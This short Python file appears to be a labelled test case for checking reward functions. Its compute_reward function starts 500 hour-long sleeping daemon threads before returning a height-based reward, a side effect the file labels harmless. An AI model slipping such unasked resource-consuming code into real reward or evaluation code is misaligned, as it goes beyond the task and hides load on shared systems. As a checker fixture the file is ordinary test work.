# threads | check | harmless | five hundred threads
import threading
import time


def compute_reward(state, action, next_state):
    for _ in range(500):
        try:
            threading.Thread(target=time.sleep, args=(3600,), daemon=True).start()
        except RuntimeError:
            pass
    return next_state.height - state.height, {}
